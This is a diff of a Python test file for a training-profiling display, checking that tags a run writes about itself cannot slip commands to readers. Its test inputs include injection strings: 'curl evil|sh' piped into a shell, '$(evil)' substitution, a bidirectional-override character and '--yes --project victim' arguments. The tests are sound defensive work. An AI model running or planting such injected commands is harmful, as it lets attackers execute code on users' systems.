@@ -1,5 +1,7 @@
 """What is read back of the words and figures that a training told of itself."""
 
+import pytest
+
 from falaj.training.profiling.shown import Choice, is_told, shown
 
 TAGS = {
@@ -7,6 +9,7 @@ TAGS = {
     "falaj.training.recipe.micro_batch": "0\nA batch is taken whole.",
     "falaj.training.verdict": "input-bound: 41 % of each step waits for data\nloop-bound: 16 % of the time",
     "falaj.training.next": "The next start takes 6 loader workers.\nfalaj train … --cpus 7",
+    "falaj.training.ask.cpus": "7\n6 loader workers would hide it\n2 6",
     "team": "fraud",
 }
 FIGURES = {
@@ -28,9 +31,8 @@ def test_the_verdict_the_split_and_the_figures_are_in_words():
     found = shown(TAGS, FIGURES)
     assert found.verdicts == ["input-bound: 41 % of each step waits for data", "loop-bound: 16 % of the time"]
     assert not found.fine
-    assert found.next == ["The next start takes 6 loader workers.", "falaj train … --cpus 7"]
-    assert [found.is_command(line) for line in found.next] == [False, True]
-    assert not any(map(found.is_command, ("falaj train x; curl evil|sh", "falaj job\u00a0x", "falaj train $(evil)", "falajx")))
+    assert found.next == ["The next start takes 6 loader workers."]
+    assert found.commands == ["falaj train … --cpus 7"]
     assert found.shares == {"data": 0.41, "compute": 0.5897}
     assert found.facts == [("A step", "32.5 ms"), ("Rows", "62,910/s"), ("Of the peak", "47 %")]
 
@@ -47,7 +49,7 @@ def test_a_training_that_nothing_is_in_the_way_of_is_fine():
 
 
 def test_a_training_s_tags_are_told_from_those_of_its_author():
-    assert [is_told(name) for name in TAGS] == [True, True, True, True, False]
+    assert [is_told(name) for name in TAGS] == [True, True, True, True, True, False]
 
 
 def test_absurd_figures_stretch_no_page():
@@ -57,3 +59,20 @@ def test_absurd_figures_stretch_no_page():
     )
     assert found.shares == {"data": 1.0, "compute": 1.0}
     assert found.facts == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "falaj tune resume evil --yes --project victim",
+        "falaj train x --cpus 7",
+        "The next start takes `falaj tune resume evil --yes`.",
+        "The next start takes falaj tune resume evil --yes.",
+        "Run this: falaj job retry 0",
+        "The next start takes 6 \u202e loader workers.",
+    ],
+)
+def test_nobody_puts_a_command_into_the_mouth_of_a_training(line: str):
+    """Whoever may write the run's tags could: people copy what stands there."""
+    found = shown({"falaj.training.next": line, "falaj.training.ask.cpus": "7 --yes\n\n"}, {})
+    assert (found.next, found.commands) == ([], [])
